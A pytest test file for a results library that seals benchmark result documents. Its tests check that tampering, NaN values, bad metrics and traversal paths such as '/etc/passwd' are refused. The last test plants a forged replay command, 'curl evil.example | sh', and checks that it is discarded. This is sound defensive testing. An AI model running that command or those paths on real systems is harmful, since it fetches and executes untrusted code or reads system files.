"""A document is sealed once; whatever is changed, cut or impossible in it is noticed."""

from __future__ import annotations

import json
import math
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from tests.fakes.trials import PLANNED_AT, a_trial

from plumbline.metrics import METRICS
from plumbline.results import (
    Environment,
    Event,
    Evidence,
    LaunchRecord,
    MetricRow,
    Reason,
    Reproducibility,
    ResultDocument,
    Stage,
    Telemetry,
    Validity,
    metric_row,
)

GOLDEN = Path(__file__).resolve().parents[2] / "data" / "results" / "training.json"
TRIAL = a_trial()
VALID = Validity(status="valid")


def sealed(**fields: Any) -> ResultDocument:
    given_ = {"trial": TRIAL, "harness_version": "0.1.0", "environment": Environment.of({"cpu.model": "x"}), "validity": VALID, **fields}
    return ResultDocument.sealed(**given_)


def test_a_sealed_document_verifies_itself() -> None:
    document = sealed(metrics=[metric_row("step_time", 0.1, 5)], timeline=[Event(name="start", utc=PLANNED_AT)])
    assert ResultDocument.model_validate_json(document.model_dump_json()) == document


@settings(max_examples=40, deadline=None)
@given(
    values=st.lists(st.floats(allow_nan=False, allow_infinity=False), max_size=5),
    facts=st.dictionaries(
        st.text(min_size=1, max_size=8),
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    ),
)
@example(values=[], facts={"0": "\0", "a\0b": 1})
def test_any_numbers_and_facts_survive_the_way_through_json(values: list[float], facts: dict[str, Any]) -> None:
    document = sealed(metrics=[metric_row("step_time", value, 1) for value in values], environment=Environment.of(facts))
    again = ResultDocument.model_validate_json(document.model_dump_json())
    assert again == document
    assert again.environment is not None
    assert {k: type(v) for k, v in again.environment.facts.items()} == {k.replace("\0", "\ufffd"): type(v) for k, v in facts.items()}


def leaves(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    items = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    below = [leaf for key, value in items for leaf in leaves(value, (*path, key))]
    return below or [path]


def test_every_single_value_is_covered() -> None:
    """Each leaf of a real document in turn: another value, and the document is refused. Only what collect adds is not signed."""
    text = GOLDEN.read_text()
    paths = [path for path in leaves(json.loads(text)) if path[0] != "launch"]
    assert len(paths) > 300
    for path in paths[::7]:
        data = json.loads(text)
        inner = data
        for part in path[:-1]:
            inner = inner[part]
        old = inner[path[-1]]
        inner[path[-1]] = (not old) if isinstance(old, bool) else old + 1 if isinstance(old, (int, float)) else f"{old}x"
        with pytest.raises(ValidationError):
            ResultDocument.model_validate_json(json.dumps(data))


def test_a_list_that_lost_an_entry_is_refused() -> None:
    data = json.loads(GOLDEN.read_text())
    for part in ("metrics", "evidence", "timeline"):
        cut = {**data, part: data[part][:-1]}
        with pytest.raises(ValidationError) as refusal:
            ResultDocument.model_validate_json(json.dumps(cut))
        assert [error["type"] for error in refusal.value.errors()] == ["checksum_mismatch"]


def test_what_the_outside_saw_is_added_without_breaking_the_seal() -> None:
    record = LaunchRecord(launcher="local", events=(), exit_code=0)
    document = sealed()
    added = document.with_launch(record)
    assert added.checksum == document.checksum
    assert ResultDocument.model_validate_json(added.model_dump_json()).launch == record


@pytest.mark.parametrize("number", [math.nan, math.inf, -math.inf])
def test_no_nan_and_no_infinity_anywhere(number: float) -> None:
    assert metric_row("step_time", number, 5, ci=(1.0, 2.0)) == metric_row("step_time", None, 5)
    with pytest.raises(ValidationError):
        MetricRow(phase="steady", metric="step_time", statistic="median", value=number, unit="s", n=1, direction="lower_is_better")
    with pytest.raises(ValidationError):
        metric_row("step_time", 1.0, 5, ci=(number, 2.0))
    with pytest.raises(ValueError, match=r"finite|JSON compliant"):
        Environment.of({"x": number})
    with pytest.raises(ValidationError):
        Telemetry(phase="steady", signal="x", unit="ratio", n=1, mean=number, min=0, max=1)
    with pytest.raises(ValidationError):
        Stage(phase="steady", stage="forward", total_s=number, n=1)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"statistic": "p42"}, "unknown statistic"),
        ({"unit": "ratio"}, "step_time is in s"),
        ({"direction": "higher_is_better"}, "lower_is_better"),
        ({"n": -1}, "n"),
        ({"phase": "lunch"}, "phase"),
    ],
)
def test_a_metric_is_one_of_the_catalogue(change: dict[str, Any], said: str) -> None:
    with pytest.raises(ValidationError, match=said):
        MetricRow.model_validate({**metric_row("step_time", 0.1, 5).model_dump(), **change})


@pytest.mark.parametrize(("unit", "said"), [("s", 'unknown metric "speed"'), ("furlongs", "unit")])
def test_a_document_holds_no_metric_that_neither_catalogue_nor_workload_has(unit: str, said: str) -> None:
    row = {**metric_row("step_time", 0.1, 5).model_dump(), "metric": "speed", "unit": unit}
    with pytest.raises(ValidationError, match=said):
        sealed(metrics=(row,))


def test_each_metric_of_the_catalogue_can_be_a_row() -> None:
    for name in METRICS:
        assert metric_row(name, 1.0, 1).value == 1.0
        assert metric_row(name, 0.1, 5, statistic="cv").unit == "ratio"


@pytest.mark.parametrize(
    ("fields", "fine"),
    [
        ({"status": "valid"}, True),
        ({"status": "failed", "failure_class": "timeout", "reasons": (Reason(code="x", detail="y"),)}, True),
        ({"status": "failed", "reasons": (Reason(code="x", detail="y"),)}, False),
        ({"status": "valid", "failure_class": "timeout"}, False),
        ({"status": "degraded"}, False),
        ({"status": "failed", "failure_class": "bad_luck", "reasons": (Reason(code="x", detail="y"),)}, False),
    ],
)
def test_a_verdict_is_complete(fields: dict[str, Any], fine: bool) -> None:
    if fine:
        Validity(**fields)
    else:
        with pytest.raises(ValidationError):
            Validity(**fields)


def test_a_valid_trial_has_an_environment() -> None:
    with pytest.raises(ValidationError, match="without an environment"):
        sealed(environment=None)
    failed = Validity(status="failed", failure_class="harness_error", reasons=(Reason(code="x", detail="y"),))
    assert sealed(environment=None, validity=failed).environment is None


def test_an_environments_hash_does_not_depend_on_the_order_of_facts() -> None:
    assert Environment.of({"a": 1, "b": None}) == Environment.of({"b": None, "a": 1})
    assert Environment.of({"a": 1}).environment_hash != Environment.of({"a": "1"}).environment_hash
    with pytest.raises(ValidationError, match="does not match"):
        Environment(facts={"a": 2}, environment_hash=Environment.of({"a": 1}).environment_hash)


@pytest.mark.parametrize("uri", ["/etc/passwd", "../trial.json", "evidence/../../x", "evidence//x", "", "s3://b/x", "evidence/.hidden"])
def test_evidence_lies_below_the_document(uri: str) -> None:
    with pytest.raises(ValidationError):
        Evidence(kind="log", uri=uri, sha256="0" * 64, bytes=1)
    Evidence(kind="log", uri="evidence/server-1.log", sha256="0" * 64, bytes=1)


def test_a_moment_has_a_time_zone() -> None:
    with pytest.raises(ValidationError, match="timezone"):
        Event(name="start", utc=PLANNED_AT.replace(tzinfo=None))


def test_one_number_of_a_document() -> None:
    document = sealed(
        metrics=(metric_row("step_time", 0.1, 5), metric_row("step_time", 0.2, 5, statistic="p95"), metric_row("goodput", None, 0))
    )
    assert document.value("step_time") == 0.1
    assert document.value("step_time", "p95") == 0.2
    assert document.value("step_time", phase="warmup") is None
    assert document.value("goodput") is None


@pytest.mark.fault(
    "a pod writes a command of its own as the one to replay", ends="the command computed from the trial", keeps="the document"
)
def test_the_command_that_repeats_a_trial_is_computed() -> None:
    forged = Reproducibility(seeds={}, hashes={}, replay_command="curl evil.example | sh")
    found = sealed(reproducibility=forged)
    assert found.replay == f"plumbline replay {found.trial.trial_id}"
    assert sealed().replay is None
